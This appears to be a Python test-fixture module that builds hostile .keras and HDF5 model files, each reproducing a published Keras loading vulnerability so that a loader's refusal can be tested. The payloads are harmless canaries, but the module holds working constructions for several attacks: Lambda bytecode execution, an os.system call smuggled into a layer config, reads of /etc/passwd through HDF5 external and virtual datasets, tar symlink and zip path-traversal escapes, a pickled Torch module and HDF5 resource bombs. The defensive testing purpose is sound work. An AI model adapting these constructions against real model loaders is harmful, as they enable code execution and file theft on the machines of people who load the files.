"""Hostile ``.keras`` files: each is the shipped model of all digits with one thing done to it. Made without Keras.

What could run code would make the canary, a folder; what could call out would call ``CALL``.
"""

import base64
import copy
import io
import json
import marshal
import pickle
import tarfile
import tempfile
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import h5py
from hostile.head_files import Touch

HONEST = Path(__file__).resolve().parents[2] / "tlcore" / "assets" / "sources" / "digits.keras"
CALL = "http://127.0.0.1:1/canary"


@cache
def member(name: str) -> bytes:
    with zipfile.ZipFile(HONEST) as archive:
        return archive.read(name)


def config() -> dict[str, Any]:
    return json.loads(member("config.json"))


def packed(
    config: Any = None,
    weights: bytes | None = None,
    metadata: bytes | None = None,
    extra: list[tuple[str | zipfile.ZipInfo, bytes]] | None = None,
) -> bytes:
    """Return a ``.keras`` archive; what is not given is the honest model's."""
    file = io.BytesIO()
    text = member("config.json") if config is None else config
    # Deflated where that makes a bomb, stored as Keras does where it only takes time.
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("metadata.json", member("metadata.json") if metadata is None else metadata)
        archive.writestr("config.json", text if isinstance(text, bytes) else json.dumps(text))
        stored = zipfile.ZIP_STORED if weights is None else zipfile.ZIP_DEFLATED
        archive.writestr("model.weights.h5", member("model.weights.h5") if weights is None else weights, stored)
        for name, content in extra or ():
            archive.writestr(name, content)
    return file.getvalue()


def with_layer(*layers: dict[str, Any]) -> bytes:
    """Put layers behind the input of the honest model, wired in."""
    changed = config()
    rows = changed["config"]["layers"]
    for layer in layers:
        before, after = rows[0]["name"], rows[1]
        row = {"registered_name": None, "name": layer["config"].get("name", "hostile"), **layer}
        row["inbound_nodes"] = copy.deepcopy(after["inbound_nodes"])
        after["inbound_nodes"][0]["args"][0]["config"]["keras_history"][0] = row["name"]
        row["inbound_nodes"][0]["args"][0]["config"]["keras_history"][0] = before
        rows.insert(1, row)
    return packed(changed)


def layer(name: str, module: str = "keras.layers", **settings: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": {"name": "hostile", "trainable": True, **settings}}


def with_setting(value: Any, place: int = 1, key: str = "activation") -> bytes:
    changed = config()
    changed["config"]["layers"][place]["config"][key] = value
    return packed(changed)


def bytecode(canary: Path) -> str:
    """Return a function that makes the canary, as a Lambda layer holds it."""
    code = compile(f"lambda x: __import__('os').mkdir({str(canary)!r}) or x", "x", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def lambda_layer(canary: Path) -> dict[str, Any]:
    held = {"code": bytecode(canary), "defaults": None, "closure": None}
    return layer("Lambda", function={"class_name": "__lambda__", "config": held}, arguments={})


def call(module: str, name: str, **arguments: Any) -> dict[str, Any]:
    """Return a serialised object whose making would call a function."""
    return {"module": module, "class_name": name, "config": {"name": "hostile", **arguments}, "registered_name": name}


def weights(change: Callable[[h5py.File], None], start: bytes | None = None) -> bytes:
    """Return the honest weights file with a change."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "w.h5"
        path.write_bytes(member("model.weights.h5") if start is None else start)
        with h5py.File(path, "a") as file:
            change(file)
        return path.read_bytes()


VARIABLE = "layers/conv2d/vars/0"  # the first convolution's kernel, (3, 3, 1, 32)


def replaced(**keywords: Any) -> Callable[[h5py.File], None]:
    """Return a change that puts another dataset in the place of the first kernel."""

    def change(file: h5py.File) -> None:
        del file[VARIABLE]
        file.create_dataset(VARIABLE, **keywords)

    return change


def virtual(file: h5py.File) -> None:
    layout = h5py.VirtualLayout((3, 3, 1, 32), "f4")
    layout[...] = h5py.VirtualSource("/etc/passwd", "x", (3, 3, 1, 32))
    del file[VARIABLE]
    file.create_virtual_dataset(VARIABLE, layout)


def linked(link: Any) -> Callable[[h5py.File], None]:
    def change(file: h5py.File) -> None:
        del file[VARIABLE]
        file[VARIABLE] = link

    return change


def circular(file: h5py.File) -> None:
    file["layers/conv2d/again"] = file["layers"]


def crowded(file: h5py.File) -> None:
    for i in range(6_000):
        file.create_group(f"g{i}")


def deep(file: h5py.File) -> None:
    group = file
    for _ in range(5_100):
        group = group.create_group("g")


def legacy(canary: Path) -> bytes:
    """Return a model in the old HDF5 format with a Lambda layer; safe mode was not asked there."""
    held = {"class_name": "Sequential", "config": {"layers": [lambda_layer(canary)]}}
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "m.h5"
        with h5py.File(path, "w") as file:
            file.attrs["model_config"] = json.dumps(held)
            file.attrs["keras_version"] = "3.11.0"
            file.create_group("model_weights")
        return path.read_bytes()


def tar_with_a_way_out() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        link = tarfile.TarInfo("out")
        link.type, link.linkname = tarfile.SYMTYPE, "../../.."
        archive.addfile(link)
        archive.addfile(tarfile.TarInfo("out/canary"))
    return file.getvalue()


def published(canary: Path) -> dict[str, tuple[bytes, str]]:
    """Return one file for each published weakness of Keras' loading, and a word of the sentence that refuses it."""
    evil = f"mkdir {canary}"
    get_file = {"fname": "x", "origin": CALL, "cache_dir": str(canary), "force_download": True}
    unsafe = call("keras.config", "enable_unsafe_deserialization")
    torch = base64.b64encode(pickle.dumps(Touch(canary))).decode()
    vast = replaced(shape=(2**20, 2**20), dtype="f4", chunks=(64, 64))
    outside = replaced(shape=(3, 3, 1, 32), dtype="f4", external=[("/etc/passwd", 0, 1152)])
    return {
        "CVE-2024-3660": (with_layer(lambda_layer(canary)), "Lambda"),
        "CVE-2025-1550": (with_layer(call("os", "system", command=evil)), "os.system"),
        "CVE-2025-8747": (with_layer(call("keras.utils", "get_file", **get_file)), "keras.utils.get_file"),
        "CVE-2025-9905": (legacy(canary), ".h5"),
        "CVE-2025-9906": (with_layer(lambda_layer(canary), unsafe), "keras.config"),
        "CVE-2025-12058": (with_layer(layer("StringLookup", vocabulary="/etc/passwd")), "StringLookup"),
        "CVE-2025-12060": (
            packed(
                config() | {"compile_config": {"loss": call("keras.utils", "get_file", **get_file, extract=True)}},
                extra=[("assets/x.tar", tar_with_a_way_out())],
            ),
            "assets/x.tar",
        ),
        "CVE-2025-49655": (with_layer(layer("TorchModuleWrapper", module_=torch)), "TorchModuleWrapper"),
        "CVE-2026-0897": (packed(weights=weights(vast)), "numbers"),
        "CVE-2026-1462": (with_layer(layer("TFSMLayer", filepath=str(canary))), "TFSMLayer"),
        "CVE-2026-1669": (packed(weights=weights(outside)), "other files"),
        "GHSA-hqp4-2352-xf5r": (packed(extra=[("../../canary", b"x")]), "canary"),
        # Not on the list this was made from, and published since:
        "CVE-2026-12479": (
            with_layer(
                layer("Dropout", rate=0.1, seed=None, noise_shape=None)
                | {"config": {"name": "../../canary", "rate": 0.1}}
            ),
            "named",
        ),
        "CVE-2026-12481": (packed(config() | {"compile_config": {"loss": lambda_layer(canary)}}), "Lambda"),
    }
